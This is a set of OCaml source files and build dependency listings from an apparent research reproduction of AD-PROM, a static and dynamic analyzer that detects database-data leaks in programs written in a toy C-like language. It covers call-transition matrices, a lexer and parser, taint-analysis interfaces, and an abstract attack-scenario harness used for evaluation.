      (fun (a, b) _ acc -> Symbol.Set.add a (Symbol.Set.add b acc))
      t.cells Symbol.Set.empty
  in
  Symbol.Set.elements set

let calls t =
  List.filter (function Symbol.Entry | Symbol.Exit -> false | Symbol.Lib _ | Symbol.Func _ -> true) (symbols t)

let row t s =
  Pairs.fold (fun (a, b) v acc -> if Symbol.equal a s then (b, v) :: acc else acc) t.cells []
  |> List.sort (fun (x, _) (y, _) -> Symbol.compare x y)

let column t s =
  Pairs.fold (fun (a, b) v acc -> if Symbol.equal b s then (a, v) :: acc else acc) t.cells []
  |> List.sort (fun (x, _) (y, _) -> Symbol.compare x y)

let row_sum t s = List.fold_left (fun acc (_, v) -> acc +. v) 0.0 (row t s)
let column_sum t s = List.fold_left (fun acc (_, v) -> acc +. v) 0.0 (column t s)

let iter f t = Pairs.iter (fun (a, b) v -> f a b v) t.cells

let fold f t init = Pairs.fold (fun (a, b) v acc -> f a b v acc) t.cells init

let eliminate_symbol t s =
  let inflow = column t s and outflow = row t s in
  let total_in = List.fold_left (fun acc (_, v) -> acc +. v) 0.0 inflow in
  remove_symbol t s;
  if total_in > 0.0 then
    List.iter
      (fun (a, va) ->
        List.iter
          (fun (b, vb) ->
            if not (Symbol.equal a s || Symbol.equal b s) then
              add t a b (va *. vb /. total_in))
          outflow)
      inflow

let conserved ?(eps = 1e-9) t =
  let close x y = Float.abs (x -. y) <= eps in
  close (row_sum t Symbol.Entry) 1.0
  && close (column_sum t Symbol.Exit) 1.0
  && List.for_all (fun c -> close (row_sum t c) (column_sum t c)) (calls t)

let map_symbols f t =
  let out = create () in
  iter (fun a b v -> add out (f a) (f b) v) t;
  out

let to_dense t =
  let syms = Array.of_list (symbols t) in
  let n = Array.length syms in
  let dense = Array.make_matrix n n 0.0 in
  Array.iteri
    (fun i a -> Array.iteri (fun j b -> dense.(i).(j) <- get t a b) syms)
    syms;
  (syms, dense)

let pp ppf t =
  let syms = symbols t in
  Format.fprintf ppf "@[<v>";
  List.iter
    (fun a ->
      let r = row t a in
      if r <> [] then begin
        Format.fprintf ppf "%a ->" Symbol.pp a;
        List.iter (fun (b, v) -> Format.fprintf ppf " %a:%.4f" Symbol.pp b v) r;
        Format.fprintf ppf "@,"
      end)
    syms;
  Format.fprintf ppf "@]"

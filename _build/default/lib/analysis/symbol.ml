type t =
  | Entry
  | Exit
  | Lib of { name : string; label : int option; site : int option }
  | Func of string

let lib ?site ?label name = Lib { name; label; site }

let observable = function
  | Lib { name; label; site = Some _ } -> Lib { name; label; site = None }
  | (Entry | Exit | Lib _ | Func _) as s -> s

let name = function
  | Entry -> "<entry>"
  | Exit -> "<exit>"
  | Lib { name; _ } -> name
  | Func f -> f

let strip_label = function
  | Lib { name; label = Some _; site } -> Lib { name; label = None; site }
  | (Entry | Exit | Lib _ | Func _) as s -> s

let is_labeled = function
  | Lib { label = Some _; _ } -> true
  | Entry | Exit | Lib _ | Func _ -> false

let compare = Stdlib.compare
let equal a b = compare a b = 0
let hash = Hashtbl.hash

let to_string = function
  | Entry -> "eps"
  | Exit -> "eps'"
  | Lib { name; label; site } ->
      let base = match label with None -> name | Some bid -> Printf.sprintf "%s_Q%d" name bid in
      (match site with None -> base | Some s -> Printf.sprintf "%s#%d" base s)
  | Func f -> f ^ "()"

let pp ppf s = Format.pp_print_string ppf (to_string s)

module Ord = struct
  type nonrec t = t

  let compare = compare
end

module Map = Map.Make (Ord)
module Set = Set.Make (Ord)

module Table = Hashtbl.Make (struct
  type nonrec t = t

  let equal = equal
  let hash = hash
end)

(** Probability forecast over a function's CFG (Sec. IV-C2).

    Implements equations (1)-(3) of the paper:
    - the conditional probability of each edge is uniform over the
      parent's outgoing edges;
    - reachability probabilities follow the topological order;
    - the transition probability of a call pair sums, over all
      {e call-free} paths between the two call nodes, the source's
      reachability times the product of edge conditional probabilities
      along the path (computed by dynamic programming, not path
      enumeration). *)

val conditional_probability : Cfg.t -> int -> int -> float
(** [conditional_probability cfg x y]: probability of taking an edge
    from node [x] to node [y]; multiplied by edge multiplicity when
    parallel edges exist. 0.0 when no edge exists. *)

val reachability : Cfg.t -> (int * float) list
(** Reachability probability of every node, ascending id order. The
    entry node has probability 1. *)

val ctm : Cfg.t -> Ctm.t
(** Call transition matrix of the function. Virtual [Entry]/[Exit]
    symbols delimit the function; user-function calls appear as
    [Func] symbols. *)

val ctms : (string * Cfg.t) list -> (string * Ctm.t) list

(** Call graph over user-defined functions, with the strongly-connected
    component condensation needed to order CTM aggregation leaf-first
    and to approximate recursion (Sec. IV-C3). *)

type t

val build : (string * Cfg.t) list -> t
(** Edges come from [E_call] nodes whose callee is user-defined. *)

val functions : t -> string list
val callees : t -> string -> string list
(** Distinct user functions called by a function (empty if unknown). *)

val callers : t -> string -> string list

val sccs : t -> string list list
(** Strongly connected components in reverse topological order of the
    condensation: every component is listed before any of its
    callers, so processing in list order is leaf-first. *)

val recursive_partners : t -> string -> string list
(** Members of the function's SCC other than itself, plus itself when
    directly recursive: the calls that must be eliminated (approximated
    by one unrolling) before aggregation. *)

lib/analysis/export.mli: Callgraph Cfg Ctm

lib/analysis/callgraph.mli: Cfg

lib/analysis/analyzer.mli: Applang Callgraph Cfg Ctm Symbol Taint

lib/analysis/callgraph.ml: Cfg Hashtbl List Map String

lib/analysis/cfg.mli: Applang Format Hashtbl Symbol

lib/analysis/cfg_build.mli: Applang Cfg

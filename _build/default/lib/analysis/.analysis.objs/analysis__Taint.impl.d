lib/analysis/taint.ml: Applang Array Cfg Hashtbl List Map Queue Set String

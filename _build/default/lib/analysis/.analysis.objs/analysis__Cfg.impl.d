lib/analysis/cfg.ml: Applang Format Hashtbl List Option Printf Queue String Symbol

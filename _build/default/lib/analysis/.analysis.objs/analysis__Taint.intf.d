lib/analysis/taint.mli: Applang Cfg

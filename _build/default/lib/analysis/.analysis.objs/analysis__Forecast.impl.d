lib/analysis/forecast.ml: Cfg Ctm Hashtbl List Option Symbol

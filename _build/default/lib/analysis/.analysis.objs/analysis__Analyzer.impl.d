lib/analysis/analyzer.ml: Aggregate Applang Callgraph Cfg Cfg_build Ctm Forecast List Taint

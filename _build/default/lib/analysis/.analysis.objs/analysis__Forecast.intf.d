lib/analysis/forecast.mli: Cfg Ctm

lib/analysis/symbol.ml: Format Hashtbl Map Printf Set Stdlib

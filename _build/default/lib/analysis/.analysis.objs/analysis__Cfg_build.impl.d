lib/analysis/cfg_build.ml: Applang Cfg Hashtbl List

lib/analysis/ctm.ml: Array Float Format Hashtbl List Symbol

lib/analysis/aggregate.mli: Callgraph Ctm

lib/analysis/symbol.mli: Format Hashtbl Map Set

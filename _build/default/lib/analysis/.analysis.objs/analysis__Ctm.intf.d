lib/analysis/ctm.mli: Format Symbol

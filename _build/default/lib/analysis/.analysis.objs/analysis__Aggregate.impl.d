lib/analysis/aggregate.ml: Callgraph Ctm Hashtbl List Printf Symbol

lib/analysis/export.ml: Buffer Callgraph Cfg Ctm List Printf String Symbol

let escape s =
  String.concat "\\\"" (String.split_on_char '"' s)

let cfg_to_dot (cfg : Cfg.t) =
  let buf = Buffer.create 1024 in
  Buffer.add_string buf (Printf.sprintf "digraph \"%s\" {\n" (escape cfg.Cfg.func));
  Buffer.add_string buf "  node [fontname=\"monospace\"];\n";
  List.iter
    (fun id ->
      let node = Cfg.node cfg id in
      let shape, label =
        match node.Cfg.event with
        | Cfg.E_entry -> ("circle", "entry")
        | Cfg.E_exit -> ("doublecircle", "exit")
        | Cfg.E_call site ->
            let label =
              match site.Cfg.label with
              | Some bid -> Printf.sprintf "%s_Q%d" site.Cfg.callee bid
              | None -> site.Cfg.callee
            in
            ("box", label)
        | Cfg.E_cond _ -> ("diamond", "cond")
        | Cfg.E_bind (x, _) -> ("plaintext", "bind " ^ x)
        | Cfg.E_return _ -> ("plaintext", "return")
        | Cfg.E_join -> ("point", "")
      in
      let style =
        match node.Cfg.event with
        | Cfg.E_call site when site.Cfg.label <> None ->
            ", style=filled, fillcolor=\"#ffd9d9\""
        | _ -> ""
      in
      Buffer.add_string buf
        (Printf.sprintf "  n%d [shape=%s, label=\"%d: %s\"%s];\n" id shape id (escape label)
           style))
    (Cfg.node_ids cfg);
  List.iter
    (fun id ->
      List.iter
        (fun succ -> Buffer.add_string buf (Printf.sprintf "  n%d -> n%d;\n" id succ))
        (Cfg.successors cfg id))
    (Cfg.node_ids cfg);
  List.iter
    (fun (src, dst) ->
      Buffer.add_string buf (Printf.sprintf "  n%d -> n%d [style=dashed, color=gray];\n" src dst))
    cfg.Cfg.back_edges;
  Buffer.add_string buf "}\n";
  Buffer.contents buf

let ctm_to_dot ?(threshold = 0.0) ctm =
  let buf = Buffer.create 1024 in
  Buffer.add_string buf "digraph ctm {\n  rankdir=LR;\n  node [fontname=\"monospace\"];\n";
  let name_of s = escape (Symbol.to_string s) in
  List.iter
    (fun s -> Buffer.add_string buf (Printf.sprintf "  \"%s\";\n" (name_of s)))
    (Ctm.symbols ctm);
  Ctm.iter
    (fun a b v ->
      if v > threshold then
        Buffer.add_string buf
          (Printf.sprintf "  \"%s\" -> \"%s\" [label=\"%.4f\"];\n" (name_of a) (name_of b) v))
    ctm;
  Buffer.add_string buf "}\n";
  Buffer.contents buf

let callgraph_to_dot cg =
  let buf = Buffer.create 512 in
  Buffer.add_string buf "digraph callgraph {\n";
  List.iter
    (fun f ->
      Buffer.add_string buf (Printf.sprintf "  \"%s\";\n" (escape f));
      List.iter
        (fun callee ->
          Buffer.add_string buf (Printf.sprintf "  \"%s\" -> \"%s\";\n" (escape f) (escape callee)))
        (Callgraph.callees cg f))
    (Callgraph.functions cg);
  Buffer.add_string buf "}\n";
  Buffer.contents buf

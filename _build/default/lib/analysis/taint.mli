(** Static data-dependency analysis (the paper's DDG, Sec. IV-A/IV-C1).

    A forward may-taint dataflow over each CFG (iterated to fixpoint
    with the real back edges, so loop-carried flows are found), combined
    with interprocedural summaries: a user function may return targeted
    data either unconditionally (it contains a source) or only when one
    of its arguments is tainted.

    The result of [analyze] is the labeling: every output-statement call
    site whose arguments may carry DB-retrieved data gets
    [site.label <- Some block_id], turning e.g. [printf] into
    [printf_Q6] in both the CTMs and the run-time traces. *)

type summary = {
  const_taint : bool;  (** returns targeted data regardless of inputs *)
  param_taint : bool;  (** returns targeted data when an argument is tainted *)
}

type result = {
  labeled_blocks : int list;  (** block ids labeled as DB-output sites, sorted *)
  summaries : (string * summary) list;
}

val expr_taint :
  tainted:(string -> bool) ->
  summary_of:(string -> summary option) ->
  Applang.Ast.expr ->
  bool
(** May the expression evaluate to targeted data, given the variable
    taint environment and user-function summaries? *)

val analyze : (string * Cfg.t) list -> result
(** Runs the interprocedural fixpoint and {e mutates} the [label] field
    of sink call sites in the given CFGs. Idempotent. *)

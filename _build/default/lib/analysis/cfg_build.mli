(** CFG construction from AppLang ASTs.

    Statements are decomposed so that every call occupies its own node
    (in evaluation order), loop back edges are redirected to the loop
    exit for the static phase, and every [Call] sub-expression is
    registered in the shared {!Cfg.Sites} table under the id of its
    node — the "block id" used both by the DB-output labels
    ([printf_Q<bid>]) and by the run-time collector. *)

val build_program : Applang.Ast.program -> (string * Cfg.t) list * Cfg.Sites.sites
(** One CFG per function, in program order, sharing a block-id counter
    and a site table. *)

val build_function :
  counter:int ref ->
  user_funcs:(string -> bool) ->
  sites:Cfg.Sites.sites ->
  Applang.Ast.func ->
  Cfg.t

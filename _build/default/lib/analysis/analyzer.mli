(** The Analyzer component (Sec. IV-B1): everything AD-PROM derives
    statically from a program, bundled. *)

type t = {
  program : Applang.Ast.program;
  cfgs : (string * Cfg.t) list;
  callgraph : Callgraph.t;
  sites : Cfg.Sites.sites;  (** call expression -> block id *)
  taint : Taint.result;  (** DB-output labeling *)
  ctms : (string * Ctm.t) list;  (** per-function CTMs, post labeling *)
  pctm : Ctm.t;  (** aggregated program CTM *)
}

val analyze : ?entry:string -> Applang.Ast.program -> t
(** Full static phase: CFGs, call graph, taint labeling, probability
    forecast, aggregation. [entry] defaults to ["main"].
    @raise Invalid_argument when [entry] is not defined. *)

val labeled_block : t -> int -> bool
(** Was this block id marked as a DB-output site? *)

val block_of_call : t -> Applang.Ast.expr -> int option
(** Block id of a (physical) [Call] sub-expression of the program. *)

val alphabet : t -> Symbol.t list
(** Observable symbols of the pCTM (no Entry/Exit), sorted. *)

(** Call Transition Matrix (CTM).

    Sparse matrix over {!Symbol.t} pairs recording the transition
    probability of each call pair within a function (Sec. IV-C2), and,
    after aggregation, within the whole program (pCTM). *)

type t

val create : unit -> t
val copy : t -> t

val add : t -> Symbol.t -> Symbol.t -> float -> unit
(** Accumulate probability mass onto a pair. *)

val set : t -> Symbol.t -> Symbol.t -> float -> unit
val get : t -> Symbol.t -> Symbol.t -> float
(** 0.0 for absent pairs. *)

val remove_symbol : t -> Symbol.t -> unit
(** Drop every pair mentioning the symbol. *)

val symbols : t -> Symbol.t list
(** All symbols mentioned in any pair, sorted; includes Entry/Exit. *)

val calls : t -> Symbol.t list
(** [symbols] without Entry/Exit: the observable calls, sorted. *)

val row : t -> Symbol.t -> (Symbol.t * float) list
(** Outgoing transitions of a symbol (non-zero only). *)

val column : t -> Symbol.t -> (Symbol.t * float) list

val row_sum : t -> Symbol.t -> float
val column_sum : t -> Symbol.t -> float

val iter : (Symbol.t -> Symbol.t -> float -> unit) -> t -> unit
val fold : (Symbol.t -> Symbol.t -> float -> 'a -> 'a) -> t -> 'a -> 'a

val eliminate_symbol : t -> Symbol.t -> unit
(** Remove a symbol by redistributing its flow: every predecessor [a]
    and successor [b] gain [in(a) * out(b) / total] mass where [total]
    is the symbol's inflow. Used to approximate recursive calls (one
    unrolling) before aggregation. No-op when the symbol is absent. *)

val conserved : ?eps:float -> t -> bool
(** The three pCTM properties of Sec. IV-C3: Entry row sums to 1, Exit
    column sums to 1, and each call's inflow equals its outflow. *)

val map_symbols : (Symbol.t -> Symbol.t) -> t -> t
(** Rebuild the matrix under a symbol renaming; colliding pairs merge
    by summation (used to strip labels for the CMarkov baseline). *)

val to_dense : t -> Symbol.t array * float array array
(** Symbols (sorted) and the square dense matrix in that order. *)

val pp : Format.formatter -> t -> unit

(** Graphviz exports of the analysis artifacts — developer tooling for
    inspecting CFGs and call-transition matrices. *)

val cfg_to_dot : Cfg.t -> string
(** One digraph per function: call nodes as boxes (labeled sites
    highlighted), conditions as diamonds, back edges dashed. *)

val ctm_to_dot : ?threshold:float -> Ctm.t -> string
(** The CTM as a weighted digraph; edges below [threshold] (default 0)
    are dropped. *)

val callgraph_to_dot : Callgraph.t -> string

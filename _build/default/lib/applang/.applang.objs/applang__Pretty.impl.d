lib/applang/pretty.ml: Ast Buffer Format List Printf String

lib/applang/libspec.mli:

lib/applang/token.mli:

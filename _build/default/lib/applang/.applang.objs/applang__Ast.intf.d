lib/applang/ast.mli:

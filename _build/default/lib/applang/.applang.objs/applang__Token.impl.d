lib/applang/token.ml: Printf

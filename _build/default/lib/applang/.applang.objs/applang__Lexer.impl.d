lib/applang/lexer.ml: Buffer List Printf String Token

lib/applang/parser.ml: Ast Lexer List Printf Token

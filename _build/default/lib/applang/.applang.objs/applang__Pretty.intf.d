lib/applang/pretty.mli: Ast Format

lib/applang/libspec.ml: Hashtbl List String

lib/applang/lexer.mli: Token

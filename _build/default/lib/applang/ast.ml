type binop =
  | Add | Sub | Mul | Div | Mod
  | Eq | Ne | Lt | Le | Gt | Ge
  | And | Or

type unop = Not | Neg

type expr =
  | Int of int
  | Str of string
  | Bool of bool
  | Null
  | Var of string
  | Binop of binop * expr * expr
  | Unop of unop * expr
  | Call of string * expr list
  | Index of expr * expr

type stmt =
  | Let of string * expr
  | Assign of string * expr
  | Expr of expr
  | If of expr * block * block
  | While of expr * block
  | For of stmt * expr * stmt * block
  | Return of expr option
  | Break
  | Continue

and block = stmt list

type func = { name : string; params : string list; body : block }

type program = { funcs : func list }

let find_func p name = List.find_opt (fun f -> f.name = name) p.funcs

let func_names p = List.map (fun f -> f.name) p.funcs

let rec calls_in_expr e =
  match e with
  | Int _ | Str _ | Bool _ | Null | Var _ -> []
  | Binop (_, a, b) -> calls_in_expr a @ calls_in_expr b
  | Unop (_, a) -> calls_in_expr a
  | Index (a, b) -> calls_in_expr a @ calls_in_expr b
  | Call (_, args) -> List.concat_map calls_in_expr args @ [ e ]

let map_program_blocks f p =
  { funcs = List.map (fun g -> { g with body = f g.name g.body }) p.funcs }

let equal_expr (a : expr) (b : expr) = a = b
let equal_stmt (a : stmt) (b : stmt) = a = b
let equal_program (a : program) (b : program) = a = b

exception Error of string * int * int

type state = {
  src : string;
  mutable pos : int;
  mutable line : int;
  mutable col : int;
}

let keyword_of_ident = function
  | "fun" -> Some Token.KW_FUN
  | "let" -> Some Token.KW_LET
  | "if" -> Some Token.KW_IF
  | "else" -> Some Token.KW_ELSE
  | "while" -> Some Token.KW_WHILE
  | "for" -> Some Token.KW_FOR
  | "return" -> Some Token.KW_RETURN
  | "break" -> Some Token.KW_BREAK
  | "continue" -> Some Token.KW_CONTINUE
  | "true" -> Some Token.KW_TRUE
  | "false" -> Some Token.KW_FALSE
  | "null" -> Some Token.KW_NULL
  | _ -> None

let is_ident_start c = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c = '_'
let is_ident_char c = is_ident_start c || (c >= '0' && c <= '9')
let is_digit c = c >= '0' && c <= '9'

let peek st = if st.pos < String.length st.src then Some st.src.[st.pos] else None

let peek2 st = if st.pos + 1 < String.length st.src then Some st.src.[st.pos + 1] else None

let advance st =
  (match peek st with
  | Some '\n' ->
      st.line <- st.line + 1;
      st.col <- 1
  | Some _ -> st.col <- st.col + 1
  | None -> ());
  st.pos <- st.pos + 1

let rec skip_trivia st =
  match (peek st, peek2 st) with
  | Some (' ' | '\t' | '\r' | '\n'), _ ->
      advance st;
      skip_trivia st
  | Some '/', Some '/' ->
      while peek st <> None && peek st <> Some '\n' do
        advance st
      done;
      skip_trivia st
  | Some '/', Some '*' ->
      let start_line = st.line and start_col = st.col in
      advance st;
      advance st;
      let rec close () =
        match (peek st, peek2 st) with
        | Some '*', Some '/' ->
            advance st;
            advance st
        | Some _, _ ->
            advance st;
            close ()
        | None, _ -> raise (Error ("unterminated block comment", start_line, start_col))
      in
      close ();
      skip_trivia st
  | _ -> ()

let lex_string st =
  let start_line = st.line and start_col = st.col in
  advance st;
  let buf = Buffer.create 16 in
  let rec loop () =
    match peek st with
    | None -> raise (Error ("unterminated string literal", start_line, start_col))
    | Some '"' -> advance st
    | Some '\\' -> (
        advance st;
        match peek st with
        | Some 'n' -> Buffer.add_char buf '\n'; advance st; loop ()
        | Some 't' -> Buffer.add_char buf '\t'; advance st; loop ()
        | Some '\\' -> Buffer.add_char buf '\\'; advance st; loop ()
        | Some '"' -> Buffer.add_char buf '"'; advance st; loop ()
        | Some c -> raise (Error (Printf.sprintf "bad escape '\\%c'" c, st.line, st.col))
        | None -> raise (Error ("unterminated string literal", start_line, start_col)))
    | Some c ->
        Buffer.add_char buf c;
        advance st;
        loop ()
  in
  loop ();
  Buffer.contents buf

let next_token st : Token.located =
  skip_trivia st;
  let line = st.line and col = st.col in
  let mk token : Token.located = { token; line; col } in
  match peek st with
  | None -> mk Token.EOF
  | Some c when is_digit c ->
      let start = st.pos in
      while (match peek st with Some d -> is_digit d | None -> false) do
        advance st
      done;
      mk (Token.INT (int_of_string (String.sub st.src start (st.pos - start))))
  | Some c when is_ident_start c ->
      let start = st.pos in
      while (match peek st with Some d -> is_ident_char d | None -> false) do
        advance st
      done;
      let ident = String.sub st.src start (st.pos - start) in
      mk (match keyword_of_ident ident with Some kw -> kw | None -> Token.IDENT ident)
  | Some '"' -> mk (Token.STRING (lex_string st))
  | Some c ->
      let two target token =
        if peek2 st = Some target then begin
          advance st;
          advance st;
          Some (mk token)
        end
        else None
      in
      let simple token =
        advance st;
        mk token
      in
      (match c with
      | '+' -> simple Token.PLUS
      | '-' -> simple Token.MINUS
      | '*' -> simple Token.STAR
      | '/' -> simple Token.SLASH
      | '%' -> simple Token.PERCENT
      | '=' -> (match two '=' Token.EQEQ with Some t -> t | None -> simple Token.ASSIGN)
      | '!' -> (match two '=' Token.BANGEQ with Some t -> t | None -> simple Token.BANG)
      | '<' -> (match two '=' Token.LE with Some t -> t | None -> simple Token.LT)
      | '>' -> (match two '=' Token.GE with Some t -> t | None -> simple Token.GT)
      | '&' -> (
          match two '&' Token.AMPAMP with
          | Some t -> t
          | None -> raise (Error ("expected '&&'", line, col)))
      | '|' -> (
          match two '|' Token.PIPEPIPE with
          | Some t -> t
          | None -> raise (Error ("expected '||'", line, col)))
      | '(' -> simple Token.LPAREN
      | ')' -> simple Token.RPAREN
      | '{' -> simple Token.LBRACE
      | '}' -> simple Token.RBRACE
      | '[' -> simple Token.LBRACKET
      | ']' -> simple Token.RBRACKET
      | ',' -> simple Token.COMMA
      | ';' -> simple Token.SEMI
      | c -> raise (Error (Printf.sprintf "unexpected character '%c'" c, line, col)))

let tokenize src =
  let st = { src; pos = 0; line = 1; col = 1 } in
  let rec loop acc =
    let tok = next_token st in
    match tok.token with
    | Token.EOF -> List.rev (tok :: acc)
    | _ -> loop (tok :: acc)
  in
  loop []

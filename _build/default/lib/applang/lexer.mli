(** Hand-written lexer for AppLang.

    Supports [//] line comments and [/* ... */] block comments, decimal
    integers, and double-quoted strings with backslash escapes for
    newline, tab, backslash and double quote. *)

exception Error of string * int * int
(** [Error (message, line, col)] *)

val tokenize : string -> Token.located list
(** Tokenize a full source text; the result always ends with [EOF].
    @raise Error on an unrecognized character or unterminated literal. *)

(** Pretty-printer for AppLang.

    The output re-parses to an equal AST (round-trip property, tested
    with qcheck), which lets the attack framework dump mutated programs
    for inspection. *)

val binop_to_string : Ast.binop -> string
val expr_to_string : Ast.expr -> string
val stmt_to_string : Ast.stmt -> string
val program_to_string : Ast.program -> string

val pp_program : Format.formatter -> Ast.program -> unit

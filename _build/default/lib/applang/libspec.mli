(** Specification of AppLang's library calls.

    This is the single source of truth shared by the static analyzer
    (data-dependency labeling), the interpreter (dynamic taint) and the
    dataset generators: which builtins {e source} targeted data from the
    database, which merely {e propagate} taint, and which are {e output
    statements} (sinks) in the sense of Sec. IV-A of the paper. *)

type taint_kind =
  | Source  (** returns data retrieved from the DB ([pq_exec], ...) *)
  | Propagate  (** returns tainted data iff an argument is tainted *)
  | Clean  (** returns untainted data *)

type spec = { name : string; taint : taint_kind; is_sink : bool }

val find : string -> spec option
(** [None] for unknown names (user functions or synthetic calls). *)

val is_sink : string -> bool
(** Output statements: [printf], [fprintf], [sprintf], [snprintf],
    [fputs], [fputc], [fwrite], [write], [puts], [system]. *)

val is_source : string -> bool
val taint_of : string -> taint_kind
(** [Clean] for unknown names. *)

val is_builtin : string -> bool
(** Known builtin, including the synthetic [lib_*] no-ops used by the
    SIR-scale program generator. *)

val all : spec list

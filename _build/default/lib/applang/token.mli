(** Lexical tokens of AppLang, with source positions for diagnostics. *)

type t =
  | INT of int
  | STRING of string
  | IDENT of string
  | KW_FUN | KW_LET | KW_IF | KW_ELSE | KW_WHILE | KW_FOR
  | KW_RETURN | KW_BREAK | KW_CONTINUE
  | KW_TRUE | KW_FALSE | KW_NULL
  | PLUS | MINUS | STAR | SLASH | PERCENT
  | EQEQ | BANGEQ | LT | LE | GT | GE
  | AMPAMP | PIPEPIPE | BANG
  | ASSIGN
  | LPAREN | RPAREN | LBRACE | RBRACE | LBRACKET | RBRACKET
  | COMMA | SEMI
  | EOF

type located = { token : t; line : int; col : int }

val to_string : t -> string

(** Abstract syntax of AppLang, the C-like language in which all subject
    application programs of the reproduction are written.

    AppLang plays the role of the C sources/binaries of the paper: it has
    functions, blocks, conditionals, loops, and calls to "library"
    functions such as [printf], [scanf], [strcpy], [pq_exec] or
    [mysql_query], which is exactly the vocabulary AD-PROM's analyses and
    traces operate on. *)

type binop =
  | Add | Sub | Mul | Div | Mod
  | Eq | Ne | Lt | Le | Gt | Ge
  | And | Or

type unop = Not | Neg

type expr =
  | Int of int
  | Str of string
  | Bool of bool
  | Null
  | Var of string
  | Binop of binop * expr * expr
  | Unop of unop * expr
  | Call of string * expr list
      (** call to a library builtin or a user-defined function *)
  | Index of expr * expr  (** [row\[i\]] field access on a DB row *)

type stmt =
  | Let of string * expr  (** declaration with initializer *)
  | Assign of string * expr
  | Expr of expr  (** expression statement, usually a call *)
  | If of expr * block * block
      (** [If (cond, then_, else_)]; a missing else is the empty block *)
  | While of expr * block
  | For of stmt * expr * stmt * block  (** [for (init; cond; step) body] *)
  | Return of expr option
  | Break
  | Continue

and block = stmt list

type func = { name : string; params : string list; body : block }

type program = { funcs : func list }

val find_func : program -> string -> func option

val func_names : program -> string list

val calls_in_expr : expr -> expr list
(** All [Call] sub-expressions of an expression, in evaluation order
    (arguments left to right, innermost call before the enclosing one).
    The returned values are the physical sub-terms of the input, so they
    can key physical-identity tables shared between the CFG builder and
    the interpreter. *)

val map_program_blocks : (string -> block -> block) -> program -> program
(** [map_program_blocks f p] rewrites the top-level body of each function
    [g] to [f g.name g.body]. Used by the attack framework. *)

val equal_expr : expr -> expr -> bool
val equal_stmt : stmt -> stmt -> bool
val equal_program : program -> program -> bool

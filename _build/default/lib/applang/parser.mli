(** Recursive-descent parser for AppLang.

    Grammar (informally):
    {v
    program  ::= func*
    func     ::= "fun" IDENT "(" params? ")" block
    block    ::= "{" stmt* "}"
    stmt     ::= "let" IDENT "=" expr ";"
               | IDENT "=" expr ";"
               | "if" "(" expr ")" block ("else" (block | if-stmt))?
               | "while" "(" expr ")" block
               | "for" "(" simple ";" expr ";" simple ")" block
               | "return" expr? ";"
               | "break" ";" | "continue" ";"
               | expr ";"
    expr     ::= usual C precedence: || && == != < <= > >= + - * / % ! unary-
    primary  ::= INT | STRING | true | false | null | IDENT
               | IDENT "(" args ")" | "(" expr ")" | primary "[" expr "]"
    v} *)

exception Error of string * int * int

val parse_program : string -> Ast.program
(** @raise Error with a position on a syntax error.
    @raise Lexer.Error on a lexical error. *)

val parse_expr : string -> Ast.expr
(** Parse a standalone expression (used by tests and the attack DSL). *)

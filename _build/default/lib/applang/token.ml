type t =
  | INT of int
  | STRING of string
  | IDENT of string
  | KW_FUN | KW_LET | KW_IF | KW_ELSE | KW_WHILE | KW_FOR
  | KW_RETURN | KW_BREAK | KW_CONTINUE
  | KW_TRUE | KW_FALSE | KW_NULL
  | PLUS | MINUS | STAR | SLASH | PERCENT
  | EQEQ | BANGEQ | LT | LE | GT | GE
  | AMPAMP | PIPEPIPE | BANG
  | ASSIGN
  | LPAREN | RPAREN | LBRACE | RBRACE | LBRACKET | RBRACKET
  | COMMA | SEMI
  | EOF

type located = { token : t; line : int; col : int }

let to_string = function
  | INT n -> string_of_int n
  | STRING s -> Printf.sprintf "%S" s
  | IDENT s -> s
  | KW_FUN -> "fun"
  | KW_LET -> "let"
  | KW_IF -> "if"
  | KW_ELSE -> "else"
  | KW_WHILE -> "while"
  | KW_FOR -> "for"
  | KW_RETURN -> "return"
  | KW_BREAK -> "break"
  | KW_CONTINUE -> "continue"
  | KW_TRUE -> "true"
  | KW_FALSE -> "false"
  | KW_NULL -> "null"
  | PLUS -> "+"
  | MINUS -> "-"
  | STAR -> "*"
  | SLASH -> "/"
  | PERCENT -> "%"
  | EQEQ -> "=="
  | BANGEQ -> "!="
  | LT -> "<"
  | LE -> "<="
  | GT -> ">"
  | GE -> ">="
  | AMPAMP -> "&&"
  | PIPEPIPE -> "||"
  | BANG -> "!"
  | ASSIGN -> "="
  | LPAREN -> "("
  | RPAREN -> ")"
  | LBRACE -> "{"
  | RBRACE -> "}"
  | LBRACKET -> "["
  | RBRACKET -> "]"
  | COMMA -> ","
  | SEMI -> ";"
  | EOF -> "<eof>"

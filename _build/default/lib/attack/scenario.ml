type vector =
  | Source_change of (Applang.Ast.program -> Applang.Ast.program)
  | Binary_patch of Runtime.Patch.t list
  | Malicious_input of (Runtime.Testcase.t -> Runtime.Testcase.t)
  | Mitm of (string -> string)

type t = {
  id : string;
  description : string;
  vector : vector;
}

let apply scenario (app : Adprom.Pipeline.app) =
  match scenario.vector with
  | Source_change rewrite ->
      let program = Applang.Parser.parse_program app.Adprom.Pipeline.source in
      let source = Applang.Pretty.program_to_string (rewrite program) in
      ({ app with Adprom.Pipeline.source }, [], None)
  | Binary_patch patches -> (app, patches, None)
  | Malicious_input poison ->
      ( {
          app with
          Adprom.Pipeline.test_cases =
            List.map poison app.Adprom.Pipeline.test_cases;
        },
        [],
        None )
  | Mitm rewrite -> (app, [], Some rewrite)

let run scenario app =
  let malicious, patches, query_rewriter = apply scenario app in
  let analysis = Adprom.Pipeline.analyze_app malicious in
  List.map
    (fun tc ->
      (tc, fst (Adprom.Pipeline.run_case ~patches ?query_rewriter ~analysis malicious tc)))
    malicious.Adprom.Pipeline.test_cases

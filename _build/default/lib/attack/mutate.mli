(** AST surgery used by the source-level attacks (Sec. III, cases 1 and
    3 of the adversary model): inserting, duplicating and rewriting
    statements or call arguments inside a parsed program. *)

val insert_in_function :
  Applang.Ast.program -> func:string -> at:int -> Applang.Ast.stmt list -> Applang.Ast.program
(** Insert statements before position [at] (clamped) of the function's
    top-level body. @raise Not_found on an unknown function. *)

val append_to_function :
  Applang.Ast.program -> func:string -> Applang.Ast.stmt list -> Applang.Ast.program

val insert_in_branch :
  Applang.Ast.program ->
  func:string ->
  branch:[ `Then | `Else ] ->
  Applang.Ast.stmt list ->
  Applang.Ast.program
(** Append statements inside the chosen branch of the {e first} [If] of
    the function's body. @raise Not_found when the function or the [If]
    does not exist. *)

val rewrite_call_args :
  Applang.Ast.program ->
  func:string ->
  callee:string ->
  occurrence:int ->
  (Applang.Ast.expr list -> Applang.Ast.expr list) ->
  Applang.Ast.program
